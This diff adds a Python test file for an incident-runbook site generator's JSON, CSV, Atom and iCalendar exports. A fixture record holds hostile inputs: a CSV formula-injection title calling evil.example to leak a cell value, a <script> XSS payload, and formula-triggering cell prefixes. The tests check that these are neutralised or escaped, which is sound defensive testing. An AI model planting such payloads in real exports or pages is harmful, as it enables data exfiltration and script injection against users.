@@ -1,0 +1,187 @@
+"""Exports: JSON round-trips to the model, CSV cannot run formulas, feed and calendar parse."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import xml.etree.ElementTree as ET
+from datetime import date
+from typing import Any
+
+import icalendar
+
+from generator.exports import Links, site_files
+from generator.exports.ical import fold
+from generator.exports.table import COLUMNS, neutralise
+from generator.metrics import IncidentMetrics, incident_metrics
+from generator.model.incident import Incident
+from generator.project import load_project
+from generator.schema import schema_texts
+
+from .conftest import ROOT
+
+ATOM = "{http://www.w3.org/2005/Atom}"
+TODAY = date(2025, 1, 10)
+LINKS = Links("https://runbooks.example.com/ops", site_name="Ops runbooks")
+
+
+def shipped() -> list[IncidentMetrics]:
+    project = load_project(ROOT)
+    assert not project.problems
+    return [incident_metrics(r.incident, project.policy) for r in project.records]
+
+
+def hostile() -> IncidentMetrics:
+    record = Incident.model_validate(
+        {
+            "number": 42,
+            "slug": "hostile",
+            "title": '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>',
+            "severity": "SEV2",
+            "status": "resolved",
+            "timeline": [
+                {"at": "2024-12-31T23:30:00-05:00", "kind": "detected", "text": "page"},
+                {"at": "2025-01-01T06:00:00+01:00", "kind": "resolved", "text": "ok"},
+            ],
+            "postmortem": {
+                "summary": "Broke ]]> & <b>bold</b>\x07 \"quoted\" 'single'",
+                "action_items": [
+                    {
+                        "text": "Fix a, b; c\\d — ünïcödé " + "x" * 80,
+                        "owner": "-@mallory",
+                        "due": "2025-01-05",
+                    },
+                    {"text": "Done already", "owner": "@a", "due": "2025-01-20", "done": True},
+                    {"text": "No date", "owner": "@a"},
+                ],
+            },
+        }
+    )
+    return incident_metrics(record, None)
+
+
+def test_json_export_round_trips_every_record_to_the_model() -> None:
+    items = shipped()
+    files = site_files(items, LINKS, TODAY)
+    data = json.loads(files["api/incidents.json"])
+    assert (data["version"], data["today"], data["count"]) == (1, "2025-01-10", len(items))
+    by_number = {m.incident.number: m.incident for m in items}
+    for entry in data["incidents"]:
+        original = by_number[entry["record"]["number"]]
+        assert Incident.model_validate(entry["record"]) == original
+        one = json.loads(files[f"api/incidents/{entry['ident']}.json"])
+        assert one["record"] == entry["record"]
+        assert one["computed"] == entry["computed"]
+
+
+def test_json_export_carries_computed_facts_with_named_intervals() -> None:
+    data = json.loads(site_files(shipped(), LINKS, TODAY)["api/incidents.json"])
+    seed = next(e for e in data["incidents"] if e["ident"] == "0015-hotfix-auth-token")
+    assert seed["url"] == "https://runbooks.example.com/ops/incidents/0015-hotfix-auth-token/"
+    computed = seed["computed"]
+    assert computed["quarter"] == "2024-Q4"
+    assert computed["milestones"]["detected"] == {
+        "at": "2024-11-25T14:32:00+00:00",
+        "approximate": False,
+        "source": "timeline",
+    }
+    assert computed["intervals"]["time_to_resolve"] == {
+        "start": "detected",
+        "end": "resolved",
+        "seconds": 47 * 60,
+        "text": "47m",
+        "approximate": False,
+    }
+    assert computed["intervals"]["time_to_detect"]["seconds"] is None
+    assert [(c["check"], c["verdict"]) for c in computed["sla"]] == [
+        ("time to acknowledge", "met"),
+        ("time to resolve", "met"),
+    ]
+    # On 2025-01-10 @bob's item (due 2024-12-09) is overdue, @carol's (2025-01-15) is not.
+    assert computed["action_items"] == {"total": 3, "open": 2, "overdue": 1}
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_neutralises_formulas_and_keeps_text() -> None:
+    text = site_files([hostile()], LINKS, TODAY)["incidents.csv"]
+    assert text.splitlines()[0].split(",") == list(COLUMNS)
+    row = rows(text)[0]
+    assert row["title"].startswith("'=HYPERLINK(")
+    assert row["title"].endswith("<script>alert(1)</script>")
+    assert row["detected"] == "2024-12-31T23:30:00-05:00"
+    assert row["quarter"] == "2025-Q1"
+    assert row["time_to_resolve_seconds"] == "1800"
+    assert row["time_to_acknowledge_seconds"] == ""
+    assert row["action_items_overdue"] == "1"
+    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert neutralise(cell) == "'" + cell
+    assert neutralise("plain") == "plain"
+    assert neutralise("1-2") == "1-2"
+
+
+def test_atom_feed_parses_with_absolute_links_and_literal_text() -> None:
+    items = [*shipped(), hostile()]
+    root = ET.fromstring(site_files(items, LINKS, TODAY)["feed.xml"].encode())
+    assert root.tag == f"{ATOM}feed"
+    entries = root.findall(f"{ATOM}entry")
+    with_pm = [m for m in items if m.incident.postmortem is not None]
+    assert len(entries) == len(with_pm)
+    for entry in entries:
+        link = entry.find(f"{ATOM}link")
+        assert link is not None
+        assert link.get("href", "").startswith("https://runbooks.example.com/ops/incidents/")
+        assert entry.findtext(f"{ATOM}updated", "").endswith("Z")
+    # Newest first: the hostile record (resolved 2025-01-01) is older than #16 (Feb 2025).
+    titles = [e.findtext(f"{ATOM}title") for e in entries]
+    bad = next(e for e in entries if e.findtext(f"{ATOM}id", "").endswith("/0042-hostile/"))
+    assert bad.findtext(f"{ATOM}title", "").endswith("<script>alert(1)</script>")
+    summary = bad.findtext(f"{ATOM}summary", "")
+    assert "Broke ]]> & <b>bold</b> \"quoted\" 'single'" in summary  # \x07 dropped
+    assert titles.index(bad.findtext(f"{ATOM}title")) > 0
+    assert root.findtext(f"{ATOM}updated") == entries[0].findtext(f"{ATOM}updated")
+
+
+def test_icalendar_parses_and_lists_open_dated_items() -> None:
+    text = site_files([hostile()], LINKS, TODAY)["action-items.ics"]
+    assert "\n" not in text.replace("\r\n", "")
+    for line in text.split("\r\n"):
+        assert len(line.encode()) <= 75
+    cal = icalendar.Calendar.from_ical(text)
+    events = cal.walk("VEVENT")
+    assert len(events) == 1  # done and undated items are left out
+    event = events[0]
+    assert str(event["SUMMARY"]) == "Fix a, b; c\\d — ünïcödé " + "x" * 80 + " (-@mallory)"
+    assert event.decoded("DTSTART") == date(2025, 1, 5)
+    assert event.decoded("DTEND") == date(2025, 1, 6)
+    assert str(event["UID"]) == "0042-hostile-action-1@runbooks.example.com"
+    assert str(event["DESCRIPTION"]).startswith("OVERDUE. Owner: -@mallory\nFrom incident #42")
+    assert str(event["URL"]) == "https://runbooks.example.com/ops/incidents/0042-hostile/"
+
+
+def test_fold_never_splits_a_multibyte_character() -> None:
+    line = "SUMMARY:" + "é" * 100
+    folded = fold(line)
+    pieces = folded.split("\r\n ")
+    assert all(len(p.encode()) <= 75 - (i > 0) for i, p in enumerate(pieces))
+    assert "".join(pieces) == line
+
+
+def test_empty_project_still_exports_every_file() -> None:
+    files = site_files([], LINKS, TODAY)
+    assert json.loads(files["api/incidents.json"])["incidents"] == []
+    assert files["incidents.csv"] == ",".join(COLUMNS) + "\r\n"
+    assert ET.fromstring(files["feed.xml"]).findall(f"{ATOM}entry") == []
+    assert icalendar.Calendar.from_ical(files["action-items.ics"]).walk("VEVENT") == []
+    for name, text in schema_texts().items():
+        assert files[f"schemas/{name}"] == text
+
+
+def test_without_site_url_links_are_relative_and_no_feed_is_written() -> None:
+    files = site_files(shipped(), Links(), TODAY)
+    assert "feed.xml" not in files
+    data: dict[str, Any] = json.loads(files["api/incidents.json"])
+    assert data["incidents"][0]["url"] == "incidents/0003-checkout-payment-timeouts/"
